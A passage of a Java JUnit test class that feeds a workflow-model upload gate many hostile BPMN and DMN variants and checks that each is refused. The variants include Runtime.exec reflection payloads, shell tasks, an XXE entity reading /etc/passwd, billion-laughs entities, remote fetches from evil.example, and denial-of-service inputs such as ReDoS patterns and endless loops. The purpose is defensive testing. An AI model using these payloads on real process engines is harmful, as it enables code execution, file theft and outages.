package nl.klachtkracht.process.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What somebody might deploy to run code of their own, to hide something from the gate or to bring the system down. */
@Execution(ExecutionMode.CONCURRENT)
class HostileModelsTest {

    private static final String APPROVAL = "compensation-approval.bpmn";
    private static final String OFFER = "offer-and-answer.bpmn";
    private static final String FULFILMENT = "fulfilment.bpmn";
    private static final String MANDATE = "compensation-mandate.dmn";
    private static final String TRIAGE = "signal-triage.dmn";
    private static final String FORM = "bring-bad-news.form";
    private static final String CHECK = "id=\"serviceTask_checkMandate\" name=\"Check mandate\" camunda:delegateExpression=\"${checkMandateDelegate}\">";
    private static final String DECIDE_DOCUMENTATION = "<bpmn:documentation>The amount is above the mandate";
    private static final String EXEC = "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')";
    private static final String WITHIN = "${withinMandate}</bpmn:conditionExpression>";
    private static final String END_OF_APPROVAL = "</bpmn:process>";
    private static final String LIMIT = "<text>150.00</text>";

    @ParameterizedTest(name = "{0}")
    @MethodSource({"programs", "expressions", "ways", "disguises", "weights", "tables", "forms"})
    void isRefusedWithTheElementNamed(String attack, Sent sent, String element, String words) {
        List<Finding> refusals = WholeGate.refusals(sent.bytes());

        assertThat(refusals).as(attack).anySatisfy(refusal -> {
            assertThat(refusal.element()).isEqualTo(element);
            assertThat(refusal.sentence()).containsIgnoringCase(words).endsWith(".").doesNotEndWith("..");
        });
    }

    static Stream<Arguments> programs() {
        return Stream.of(
                attack("a script task that runs JavaScript",
                        ours(APPROVAL).with("<bpmn:serviceTask " + CHECK, "<bpmn:scriptTask id=\"serviceTask_checkMandate\" scriptFormat=\"javascript\">")
                                .whole(text -> text.replaceFirst("</bpmn:serviceTask>", "<bpmn:script>java.lang.Runtime.getRuntime().exec('id')</bpmn:script></bpmn:scriptTask>")), "serviceTask_checkMandate", "holds a script"),
                attack("a script task that loads its Groovy from elsewhere",
                        ours(APPROVAL).with("<bpmn:serviceTask " + CHECK, "<bpmn:scriptTask id=\"serviceTask_checkMandate\" scriptFormat=\"groovy\" camunda:resource=\"deployment://x.groovy\">")
                                .whole(text -> text.replaceFirst("</bpmn:serviceTask>", "</bpmn:scriptTask>")), "serviceTask_checkMandate", "holds a script"),
                attack("a Java class in the place of a step", checkWith("camunda:class=\"org.camunda.bpm.engine.impl.bpmn.behavior.ShellActivityBehavior\""), "serviceTask_checkMandate", "camunda:class"),
                attack("a class by the engine's former name space",
                        checkWith("act:class=\"evil.Step\"").with("xmlns:modeler=", "xmlns:act=\"http://activiti.org/bpmn\" xmlns:modeler="), "serviceTask_checkMandate", "act:class"),
                attack("a task that is a free expression", checkWith("camunda:expression=\"${" + EXEC.replace('"', '\'') + "}\""), "serviceTask_checkMandate", "camunda:expression"),
                attack("a shell task", checkWith("camunda:type=\"shell\""), "serviceTask_checkMandate", "shell"),
                attack("a mail task", checkWith("camunda:type=\"mail\""), "serviceTask_checkMandate", "mail"),
                attack("a task that a foreign worker fetches", checkWith("camunda:type=\"external\" camunda:topic=\"payments\""), "serviceTask_checkMandate", "leaves the house"),
                attack("a field put into one of our steps", inCheck("<camunda:field name=\"desk\"><camunda:expression>${x}</camunda:expression></camunda:field>"), "serviceTask_checkMandate", "piece of program"),
                attack("a connector that calls another machine",
                        inCheck("<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"), "serviceTask_checkMandate", "calls other machines"),
                attack("a script in an input mapping",
                        inCheck("<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script scriptFormat=\"groovy\">1</camunda:script></camunda:inputParameter></camunda:inputOutput>"),
                        "serviceTask_checkMandate", "holds a script"),
                attack("a mapping that answers for the mandate",
                        inCheck("<camunda:inputOutput><camunda:outputParameter name=\"withinMandate\">${true}</camunda:outputParameter></camunda:inputOutput>"),
                        "serviceTask_checkMandate", "camunda:inputOutput"),
                attack("a listener of a class", inCheck("<camunda:executionListener class=\"evil.Listener\" event=\"start\" />"), "serviceTask_checkMandate", "listener"),
                attack("a listener that pays without a drawing of it", inCheck("<camunda:executionListener delegateExpression=\"${bookPaymentDelegate}\" event=\"end\" />"),
                        "serviceTask_checkMandate", "nobody sees"),
                attack("a listener with a script", inCheck("<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"javascript\">1</camunda:script></camunda:executionListener>"),
                        "serviceTask_checkMandate", "holds a script"),
                attack("a task listener that is an expression",
                        ours(APPROVAL).before(DECIDE_DOCUMENTATION, "").whole(text -> text.replaceFirst("(which waits|The amount is above[^<]*</bpmn:documentation>)",
                                "$1<bpmn:extensionElements><camunda:taskListener event=\"create\" expression=\"\\${task.complete()}\" /></bpmn:extensionElements>")),
                        "userTask_decideOnCompensation", "listener"),
                attack("a call whose variables a class maps",
                        ours(OFFER).with("calledElement=\"compensationApproval\"", "calledElement=\"compensationApproval\" camunda:variableMappingClass=\"evil.Mapping\""),
                        "callActivity_compensationApproval", "camunda:variableMappingClass"),
                attack("an imported type that a class reads",
                        ours(APPROVAL).before("<bpmn:process ", "<bpmn:import importType=\"http://schemas.xmlsoap.org/wsdl/\" location=\"http://evil.example/x\" namespace=\"urn:x\" />"), "definitions_compensationApproval", "piece of program"),
                attack("generated form fields with a validator of a class",
                        ours(APPROVAL).whole(text -> text.replaceFirst("(The amount is above[^<]*</bpmn:documentation>)",
                                "$1<bpmn:extensionElements><camunda:formData><camunda:formField id=\"a\" type=\"string\"><camunda:validation><camunda:constraint name=\"validator\" config=\"evil.V\" /></camunda:validation></camunda:formField></camunda:formData></bpmn:extensionElements>")),
                        "userTask_decideOnCompensation", "piece of program"),
                attack("an error that a formula recognises",
                        inCheck("<camunda:errorEventDefinition id=\"e\" expression=\"${true}\" />"), "serviceTask_checkMandate", "camunda:errorEventDefinition"));
    }

    static Stream<Arguments> expressions() {
        return Stream.of(
                attack("a step that is the engine itself", checkWith("camunda:delegateExpression=\"${processEngine}\""), "serviceTask_checkMandate", "${processEngine}"),
                attack("a step that is no step of ours", checkWith("camunda:delegateExpression=\"${dataSource}\""), "serviceTask_checkMandate", "name of one of our steps"),
                attack("a step behind a call", checkWith("camunda:delegateExpression=\"${clocks.due(execution, 'contact')}\""), "serviceTask_checkMandate", "name of one of our steps"),
                attack("a condition that reaches for Java by reflection", condition("${" + EXEC + "}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition that runs one of our steps", condition("${bookPaymentDelegate.execute(execution) == null}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition that asks the engine", condition("${execution.engineServices.runtimeService != null}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition that is always true", condition("${true}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition that sets while it asks", condition("${execution.setVariable('decision', 'granted') == null}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition in two pieces", condition("${withinMandate}${" + EXEC + "}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition with a choice in it", condition("${withinMandate ? true : execution.id}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition that goes into a list", condition("${values[0]}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition broken up by a remark", condition("$<!-- -->{" + EXEC + "}"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition in raw text", condition("<![CDATA[${" + EXEC + "}]]>"), "sequenceFlow_withinMandate_compensationGranted", "simple question"),
                attack("a condition in JavaScript",
                        ours(APPROVAL).with("<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + WITHIN, "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"javascript\">true</bpmn:conditionExpression>"),
                        "sequenceFlow_withinMandate_compensationGranted", "holds a script"),
                attack("a condition in a file",
                        ours(APPROVAL).with("<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + WITHIN, "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" camunda:resource=\"x.js\">${withinMandate}</bpmn:conditionExpression>"),
                        "sequenceFlow_withinMandate_compensationGranted", "holds a script"),
                attack("a condition that a reader sees longer than the engine", condition("${withinMandate<bpmn:documentation>x</bpmn:documentation>}"), "sequenceFlow_withinMandate_compensationGranted", "stands inside"),
                attack("a timer that runs Java", timer("${" + EXEC + "}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a timer that asks a method nobody opened", timer("${clocks.getClass()}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a timer that asks an unknown method", timer("${clocks.forget(execution, 'approval')}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a timer whose length a colleague may write", timer("${clocks.after(execution, 'approval', howLong)}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a timer of a clock that does not exist", timer("${clocks.after(execution, 'aproval', 'PT8H')}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a timer that counts backwards", timer("${clocks.after(execution, 'approval', 'PT-8H')}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a timer that calls inside a call", timer("${clocks.after(execution, owners.of(execution), 'PT8H')}"), "boundaryTimer_lapse", "moment of one of our clocks"),
                attack("a waiting time that a variable gives",
                        ours(APPROVAL).with("<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${clocks.after(execution, 'approval', 'PT23H45M')}</bpmn:timeDate>",
                                "<bpmn:timeDuration xsi:type=\"bpmn:tFormalExpression\">${howLong}</bpmn:timeDuration>"), "boundaryTimer_lapse", "length of time"),
                attack("an assignee by reflection", ours(OFFER).with("name=\"Bring bad news\" camunda:formRef=\"bring-bad-news\" camunda:formRefBinding=\"deployment\" camunda:assignee=\"${owners.of(execution)}\"",
                        "name=\"Bring bad news\" camunda:formRef=\"bring-bad-news\" camunda:formRefBinding=\"deployment\" camunda:assignee=\"${execution.processEngineServices.identityService.toString()}\""), "userTask_bringBadNews", "name"),
                attack("the second of several groups by reflection", ours(APPROVAL).with("camunda:candidateGroups=\"${approverGroup}\"", "camunda:candidateGroups=\"agent,${" + EXEC + "}\""),
                        "userTask_decideOnCompensation", "names of groups"),
                attack("a due date far away", ours(APPROVAL).with("camunda:dueDate=\"${clocks.after(execution, 'approval', 'PT8H')}\"", "camunda:dueDate=\"2099-01-01T00:00:00\""),
                        "userTask_decideOnCompensation", "moment of one of our clocks"),
                attack("a follow-up date by reflection", ours(APPROVAL).with("camunda:priority=\"80\"", "camunda:priority=\"80\" camunda:followUpDate=\"${" + EXEC + "}\""),
                        "userTask_decideOnCompensation", "moment of one of our clocks"),
                attack("a priority by reflection", ours(APPROVAL).with("camunda:priority=\"80\"", "camunda:priority=\"${" + EXEC + "}\""), "userTask_decideOnCompensation", "whole number"),
                attack("a task's name that is evaluated", ours(APPROVAL).with("name=\"Decide on compensation\"", "name=\"${" + EXEC + "}\""), "userTask_decideOnCompensation", "plain words"),
                attack("a task's description that is evaluated", ours(APPROVAL).with("The amount is above the mandate", "#{" + EXEC + "} above the mandate"), "userTask_decideOnCompensation", "plain words"),
                attack("a message's name that is evaluated", ours(OFFER).with("name=\"letter.badNews\"", "name=\"letter.${" + EXEC + "}\""), "message_letterBadNews", "plain words"),
                attack("a form named by an expression", ours(APPROVAL).with("camunda:formRef=\"decide-on-compensation\"", "camunda:formRef=\"${" + EXEC + "}\""), "userTask_decideOnCompensation", "plain name"),
                attack("a form from elsewhere", ours(APPROVAL).with("camunda:formRef=\"decide-on-compensation\"", "camunda:formKey=\"embedded:app:https://evil.example/form.html\""),
                        "userTask_decideOnCompensation", "camunda:formKey"),
                attack("a call whose name is an expression", ours(OFFER).with("calledElement=\"compensationApproval\"", "calledElement=\"${which}\""), "callActivity_compensationApproval", "plain name"),
                attack("a call that hands on what an expression gives", ours(OFFER).with("<camunda:out source=\"decision\"", "<camunda:out sourceExpression=\"${'granted'}\""),
                        "callActivity_compensationApproval", "camunda:sourceExpression".substring(8)),
                attack("a call for another case", ours(OFFER).with("#{execution.processBusinessKey}", "#{execution.getProcessEngineServices()}"), "callActivity_compensationApproval", "processBusinessKey"),
                attack("retries by expression", ours(FULFILMENT).with("R3/PT1M", "${" + EXEC + "}"), "serviceTask_bookPayment", "ten tries"),
                attack("a time to live by expression", ours(APPROVAL).with("camunda:historyTimeToLive=\"P730D\"", "camunda:historyTimeToLive=\"${" + EXEC + "}\""), "compensationApproval", "a number of days"),
                attack("a job's priority by expression", ours(FULFILMENT).with("camunda:asyncBefore=\"true\"", "camunda:asyncBefore=\"true\" camunda:jobPriority=\"${" + EXEC + "}\""), "serviceTask_bookPayment", "whole number"),
                attack("starters by expression", ours(APPROVAL).with("camunda:isStartableInTasklist=\"false\"", "camunda:isStartableInTasklist=\"true\" camunda:candidateStarterGroups=\"${" + EXEC + "}\""), "compensationApproval", "names of users"));
    }

    static Stream<Arguments> ways() {
        return Stream.of(
                attack("a decision made out of another answer", ours(OFFER).with("<camunda:out source=\"decision\" target=\"decision\" />", "<camunda:out source=\"wish\" target=\"decision\" />"),
                        "callActivity_compensationApproval", "puts a value of its own into 'decision'"),
                attack("a table that answers for the mandate",
                        ours(APPROVAL).with("<bpmn:serviceTask " + CHECK, "<bpmn:businessRuleTask id=\"serviceTask_checkMandate\" camunda:decisionRef=\"approvalLapse\" camunda:mapDecisionResult=\"singleEntry\" camunda:resultVariable=\"withinMandate\">")
                                .whole(text -> text.replaceFirst("</bpmn:serviceTask>", "</bpmn:businessRuleTask>")), "serviceTask_checkMandate", "puts a value of its own into 'withinMandate'"),
                attack("a signal that reaches every case", approvalWith("<bpmn:endEvent id=\"endEvent_signal\"><bpmn:signalEventDefinition signalRef=\"s\" /></bpmn:endEvent>").before("<bpmndi:BPMNDiagram ", "<bpmn:signal id=\"s\" name=\"stop\" />"), "endEvent_signal", "signalEventDefinition"),
                attack("a jump that is not drawn", approvalWith("<bpmn:intermediateThrowEvent id=\"event_jump\"><bpmn:linkEventDefinition id=\"l\" name=\"there\" /></bpmn:intermediateThrowEvent>"), "event_jump", "linkEventDefinition"),
                attack("an undoing that is not drawn", approvalWith("<bpmn:endEvent id=\"endEvent_undo\"><bpmn:compensateEventDefinition id=\"c\" /></bpmn:endEvent>"), "endEvent_undo", "compensateEventDefinition"),
                attack("a transaction of its own", approvalWith("<bpmn:transaction id=\"transaction_own\" />"), "transaction_own", "transaction"),
                attack("a gateway of a formula", approvalWith("<bpmn:complexGateway id=\"gateway_complex\" />"), "gateway_complex", "complexGateway"),
                attack("somebody responsible by expression",
                        ours(APPROVAL).whole(text -> text.replaceFirst("(<bpmn:outgoing>sequenceFlow_decideOnCompensation_recordDecision</bpmn:outgoing>)",
                                "$1<bpmn:potentialOwner><bpmn:resourceAssignmentExpression><bpmn:formalExpression>\\${x}</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner>")),
                        "userTask_decideOnCompensation", "potentialOwner"),
                attack("a flow that its step does not know",
                        approvalWith("<bpmn:sequenceFlow id=\"sequenceFlow_hidden\" sourceRef=\"startEvent_offerPrepared\" targetRef=\"endEvent_compensationGranted\" />"), "sequenceFlow_hidden", "no check sees"),
                attack("a flow that ends in what is no step", ours(FULFILMENT).with("targetRef=\"endEvent_paymentBooked\"", "targetRef=\"fulfilment\""), "sequenceFlow_bookPayment_paymentBooked", "points at 'fulfilment'"),
                attack("a deadline at what is no step", ours(APPROVAL).with("attachedToRef=\"subProcess_decision\" cancelActivity=\"true\"", "attachedToRef=\"endEvent_decisionMade\" cancelActivity=\"true\""), "boundaryTimer_lapse", "points at 'endEvent_decisionMade'"),
                attack("a letter without a message", ours(OFFER).with("messageRef=\"message_letterBadNews\"", "messageRef=\"bringBadNews\""), "endEvent_badNewsBrought", "points at 'bringBadNews'"),
                attack("a flow of a kind that is none", ours(FULFILMENT).with("<bpmn:outgoing>sequenceFlow_planFulfilment_whatPromised</bpmn:outgoing>", "<bpmn:outgoing>endEvent_paymentBooked</bpmn:outgoing>"), "serviceTask_planFulfilment", "points at"),
                attack("a deadline that is a message as well", ours(APPROVAL).before("<bpmn:timerEventDefinition id=\"timer_lapse\">", "<bpmn:errorEventDefinition id=\"error_lapse\" />"), "boundaryTimer_lapse", "more than one meaning"),
                attack("a step that claims a flow of another",
                        ours(APPROVAL).with("<bpmn:outgoing>sequenceFlow_lapse_decideByTable</bpmn:outgoing>", "<bpmn:outgoing>sequenceFlow_reminder_remindApprover</bpmn:outgoing>"),
                        "sequenceFlow_reminder_remindApprover", "does not touch"),
                attack("a timer that repeats for ever",
                        ours(APPROVAL).with("<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${clocks.after(execution, 'approval', 'PT16H')}</bpmn:timeDate>",
                                "<bpmn:timeCycle xsi:type=\"bpmn:tFormalExpression\">R/PT1S</bpmn:timeCycle>"), "boundaryTimer_nextLevel", "timeCycle"),
                attack("a step that goes back to itself", loop("<bpmn:exclusiveGateway id=\"gateway_again\"><bpmn:incoming>in_again</bpmn:incoming><bpmn:incoming>back</bpmn:incoming><bpmn:outgoing>back</bpmn:outgoing></bpmn:exclusiveGateway>"
                        + flow("back", "gateway_again", "gateway_again")), "gateway_again", "go round"),
                attack("a loop through our own steps",
                        ours(APPROVAL).with("targetRef=\"endEvent_approverReminded\" />", "targetRef=\"serviceTask_remindApprover\" />")
                                .with("<bpmn:incoming>sequenceFlow_remindApprover_approverReminded</bpmn:incoming>", "")
                                .with("<bpmn:incoming>sequenceFlow_reminder_remindApprover</bpmn:incoming>", "<bpmn:incoming>sequenceFlow_reminder_remindApprover</bpmn:incoming><bpmn:incoming>sequenceFlow_remindApprover_approverReminded</bpmn:incoming>"),
                        "serviceTask_remindApprover", "go round"),
                attack("a loop held by a moment that has passed",
                        loop("<bpmn:intermediateCatchEvent id=\"event_passed\"><bpmn:incoming>in_again</bpmn:incoming><bpmn:incoming>back</bpmn:incoming><bpmn:outgoing>back</bpmn:outgoing><bpmn:timerEventDefinition id=\"t\"><bpmn:timeDate>${clocks.after(execution, 'approval', 'PT1H')}</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>"
                                + flow("back", "event_passed", "event_passed")), "event_passed", "go round"),
                attack("a loop held by no time at all",
                        loop("<bpmn:intermediateCatchEvent id=\"event_second\"><bpmn:incoming>in_again</bpmn:incoming><bpmn:incoming>back</bpmn:incoming><bpmn:outgoing>back</bpmn:outgoing><bpmn:timerEventDefinition id=\"t\"><bpmn:timeDuration>PT1S</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>"
                                + flow("back", "event_second", "event_second")), "event_second", "go round"),
                attack("a loop held by a task that nobody gets",
                        loop("<bpmn:userTask id=\"userTask_empty\"><bpmn:incoming>in_again</bpmn:incoming><bpmn:incoming>back</bpmn:incoming><bpmn:outgoing>back</bpmn:outgoing><bpmn:multiInstanceLoopCharacteristics camunda:collection=\"nobody\" /></bpmn:userTask>"
                                + flow("back", "userTask_empty", "userTask_empty")), "userTask_empty", "go round"),
                attack("a task that is cut short again and again",
                        ours(APPROVAL).with("targetRef=\"serviceTask_decideByTable\" />", "targetRef=\"subProcess_decision\" />")
                                .with("<bpmn:incoming>sequenceFlow_lapse_decideByTable</bpmn:incoming>", "")
                                .with("<bpmn:incoming>sequenceFlow_requestApproval_decision</bpmn:incoming>", "<bpmn:incoming>sequenceFlow_requestApproval_decision</bpmn:incoming><bpmn:incoming>sequenceFlow_lapse_decideByTable</bpmn:incoming>"),
                        "subProcess_decision", "go round"),
                attack("a story that calls itself", Sent.written("calls-itself.bpmn", story("callsItself", call("calls", "callsItself"))), "start_calls", "go round"),
                attack("two stories that call each other",
                        Sent.written("ping.bpmn", story("ping", call("callPong", "pong"))).and("pong.bpmn", story("pong", call("callPing", "ping"))), "start_callPong", "go round"),
                attack("a task for a hundred thousand people", withMany("<bpmn:loopCardinality>100000</bpmn:loopCardinality>"), "userTask_decideOnCompensation", "from 1 to 50"),
                attack("a task for as many as an expression says", withMany("<bpmn:loopCardinality>${" + EXEC + "}</bpmn:loopCardinality>"), "userTask_decideOnCompensation", "from 1 to 50"),
                attack("a task for nobody", withMany("<bpmn:loopCardinality>0</bpmn:loopCardinality>"), "userTask_decideOnCompensation", "from 1 to 50"),
                attack("a task that is done when an expression says so", withMany("<bpmn:loopCardinality>2</bpmn:loopCardinality><bpmn:completionCondition>${" + EXEC + "}</bpmn:completionCondition>"),
                        "userTask_decideOnCompensation", "simple question"),
                attack("a task for each of each of each", ours(APPROVAL).before(END_OF_APPROVAL, "<bpmn:startEvent id=\"start_more\"><bpmn:outgoing>flow_more</bpmn:outgoing></bpmn:startEvent>" + flow("flow_more", "start_more", "box_0") + boxes(3, FIFTY)),
                        "start_more", "split and repeated so often"),
                attack("forks that double until the system is full", ours(APPROVAL).before(END_OF_APPROVAL, "<bpmn:startEvent id=\"start_more\"><bpmn:outgoing>flow_more</bpmn:outgoing></bpmn:startEvent>" + flow("flow_more", "start_more", "fork_0") + forks(20)),
                        "start_more", "split and repeated so often"),
                attack("a task that brings another one every hour", ours(APPROVAL).after("<bpmn:incoming>sequenceFlow_requestApproval_decision</bpmn:incoming>", "<bpmn:incoming>flow_more</bpmn:incoming>").before(END_OF_APPROVAL, "<bpmn:boundaryEvent id=\"boundary_more\" attachedToRef=\"subProcess_decision\" cancelActivity=\"false\"><bpmn:outgoing>flow_more</bpmn:outgoing>"
                        + "<bpmn:timerEventDefinition id=\"t\"><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>" + flow("flow_more", "boundary_more", "subProcess_decision")), "boundary_more", "one more of it"),
                attack("history that is gone at once", ours(APPROVAL).with("camunda:historyTimeToLive=\"P730D\"", "camunda:historyTimeToLive=\"P0D\""), "compensationApproval", "a number of days"),
                attack("tries that are weeks apart", ours(FULFILMENT).with("R3/PT1M", "R3/PT999H"), "serviceTask_bookPayment", "an hour apart"),
                attack("a standard loop", ours(APPROVAL).with("<bpmn:outgoing>sequenceFlow_decideOnCompensation_recordDecision</bpmn:outgoing>",
                        "<bpmn:outgoing>sequenceFlow_decideOnCompensation_recordDecision</bpmn:outgoing><bpmn:standardLoopCharacteristics />"), "userTask_decideOnCompensation", "standardLoopCharacteristics"),
                attack("a million tries", ours(FULFILMENT).with("R3/PT1M", "R1000000/PT1S"), "serviceTask_bookPayment", "ten tries"));
    }

    static Stream<Arguments> disguises() {
        return Stream.of(
                attack("a script task in a name space of its own", approvalWith("<bpmn:subProcess id=\"subProcess_x\"><bpmn:extensionElements><evil:scriptTask xmlns:evil=\"urn:evil\" id=\"evil_1\" /></bpmn:extensionElements></bpmn:subProcess>"),
                        "evil_1", "script"),
                attack("our own prefix for the engine's former name space", ours(APPROVAL).with("xmlns:camunda=\"http://camunda.org/schema/1.0/bpmn\"", "xmlns:camunda=\"http://activiti.org/bpmn\""),
                        "serviceTask_checkMandate", "camunda:delegateExpression"),
                attack("a step in a name space without a prefix", inCheck("<camunda:properties><userTask xmlns=\"urn:evil\" id=\"userTask_foreign\" /></camunda:properties>"), "userTask_foreign", "no model of the house uses"),
                attack("a step of another engine", inCheck("<zeebe:taskDefinition xmlns:zeebe=\"http://camunda.org/schema/zeebe/1.0\" type=\"pay\" />"), "serviceTask_checkMandate", "zeebe:taskDefinition"),
                attack("a decision that only the gate sees",
                        inCheck("<camunda:properties><bpmn:userTask id=\"userTask_decoy\" name=\"Decide on compensation\" /></camunda:properties>"), "userTask_decoy", "stands inside 'camunda:properties'"),
                attack("a deadline that only the gate sees",
                        ours(APPROVAL).whole(text -> text.replaceFirst("<bpmn:documentation>Inside the mandate", "<bpmn:documentation><bpmn:boundaryEvent id=\"boundaryTimer_decoy\" attachedToRef=\"subProcess_decision\" />Inside the mandate")),
                        "boundaryTimer_decoy", "stands inside 'documentation'"),
                attack("a schema fetched from elsewhere", ours(APPROVAL).with("xmlns:modeler=", "xsi:schemaLocation=\"urn:x http://evil.example/x.xsd\" xmlns:modeler="), "definitions_compensationApproval", "xsi:schemaLocation"),
                attack("a style sheet over the diagram", ours(APPROVAL).before("<bpmn:definitions", "<?xml-stylesheet href=\"http://evil.example/x.xsl\" type=\"text/xsl\"?>"), APPROVAL, "xml-stylesheet"),
                attack("a file from the server by an entity",
                        ours(APPROVAL).before("<bpmn:definitions", "<!DOCTYPE x [<!ENTITY passwd SYSTEM \"file:///etc/passwd\">]>").with("Inside the mandate", "&passwd; Inside the mandate"), APPROVAL, "DOCTYPE"),
                attack("a billion laughs",
                        ours(APPROVAL).before("<bpmn:definitions", "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]>").with("Inside the mandate", "&b; Inside the mandate"), APPROVAL, "DOCTYPE"),
                attack("a process of the house from a second file", ours(APPROVAL).as("harmless.bpmn"), "compensationApproval", "as well"),
                attack("two processes in each other's files",
                        Sent.written(APPROVAL, GateBench.house().get(FULFILMENT)).and(FULFILMENT, GateBench.house().get(APPROVAL)), "fulfilment", "belongs in 'fulfilment.bpmn'"),
                attack("the same id twice", ours(APPROVAL).with("id=\"serviceTask_remindApprover\"", "id=\"serviceTask_involveDirector\""), "serviceTask_involveDirector", "id of two elements"),
                attack("a process that sleeps", ours(APPROVAL).with("isExecutable=\"true\"", "isExecutable=\"false\""), "compensationApproval", "executable"),
                attack("a yes or no that two readers take differently", ours(APPROVAL).with("attachedToRef=\"subProcess_decision\" cancelActivity=\"true\"", "attachedToRef=\"subProcess_decision\" cancelActivity=\"1\""), "boundaryTimer_lapse", "true or false"),
                attack("a step without anything behind it", checkWith(""), "serviceTask_checkMandate", "does not say what it does"),
                attack("a program in a file of another kind", Sent.written("evil.groovy", "'id'.execute()"), "evil.groovy", "neither a diagram"),
                attack("a case plan, which nobody looks at", Sent.written("plan.cmmn", "<definitions/>"), "plan.cmmn", "neither a diagram"),
                attack("a diagram by another ending", ours(APPROVAL).as("compensation-approval.bpmn20.xml"), "compensation-approval.bpmn20.xml", "neither a diagram"));
    }

    static Stream<Arguments> weights() {
        return Stream.of(
                attack("two hundred and one steps", Sent.written("long.bpmn", story("long", IntStream.rangeClosed(1, 201).mapToObj(step -> "<bpmn:task id=\"task_%d\" />".formatted(step)).collect(Collectors.joining()))),
                        "long.bpmn", "steps, events and gateways"),
                attack("a name longer than the engine keeps", ours(APPROVAL).with("name=\"Check mandate\"", "name=\"" + "long ".repeat(60) + "\""), "serviceTask_checkMandate", "more than 255"),
                attack("boxes inside boxes without end",
                        Sent.written("deep.bpmn", story("deep", IntStream.range(0, 9_000).mapToObj(step -> "<bpmn:subProcess id=\"s%d\">".formatted(step)).collect(Collectors.joining()) + "</bpmn:subProcess>".repeat(9_000))),
                        "deep.bpmn", "deep.bpmn"),
                attack("a megabyte of diagram", ours(APPROVAL).with("Inside the mandate", "Inside the mandate" + "!".repeat(1_000_000)), APPROVAL, "bytes"),
                attack("a broken file", ours(APPROVAL).with("</bpmn:definitions>", ""), APPROVAL, "not well-formed"),
                attack("a diagram that is none", Sent.written("page.bpmn", "<html><script>alert(1)</script></html>"), "page.bpmn", "no BPMN diagram"));
    }

    static Stream<Arguments> tables() {
        return Stream.of(
                attack("a column in another language",
                        ours(MANDATE).with("<inputExpression id=\"inputExpression_compensationMandate_role\" typeRef=\"string\">", "<inputExpression id=\"inputExpression_compensationMandate_role\" typeRef=\"string\" expressionLanguage=\"juel\">"),
                        "input_compensationMandate_role", "another language"),
                attack("an answer in Groovy", ours(MANDATE).with("<outputEntry id=\"then_compensationMandate_agentDelivery_limitPerComplaint\">", "<outputEntry id=\"then_compensationMandate_agentDelivery_limitPerComplaint\" expressionLanguage=\"groovy\">"),
                        "rule_compensationMandate_agentDelivery", "another language"),
                attack("a whole file in JavaScript", ours(MANDATE).with("namespace=\"http://klachtkracht.nl/dmn\"", "namespace=\"http://klachtkracht.nl/dmn\" expressionLanguage=\"javascript\""), "definitions_compensationMandate", "another language"),
                attack("a template in a cell", cell("${" + EXEC + "}"), "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a function that is Java", cell("{f: function(k) external {java: {class: \"java.lang.System\", method signature: \"getProperty(java.lang.String)\"}}, r: f(\"x\")}.r"),
                        "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a function of its own", cell("(function(x) x * 2)(100)"), "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a count without end", cell("count(for i in 1..1000000000 return i)"), "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a search through a range without end", cell("if some i in 1..1000000000 satisfies i = 0 then 1 else 150"), "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a power of a power", cell("9 ** 9 ** 9"), "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a pattern over a customer's words that never ends", ours(TRIAGE).whole(text -> text.replaceFirst("some word in \\[\"deliver\"", "matches(?, \"(a+)+\\$\") or some word in [\"deliver\"")),
                        "rule_signalCategory_delivery", "simple words of a table"),
                attack("brackets without end", cell("(".repeat(40) + "150" + ")".repeat(40)), "rule_compensationMandate_agentDelivery", "simple words of a table"),
                attack("a way into the engine", cell("execution.processInstanceId"), "rule_compensationMandate_agentDelivery", "simple words of a table"),
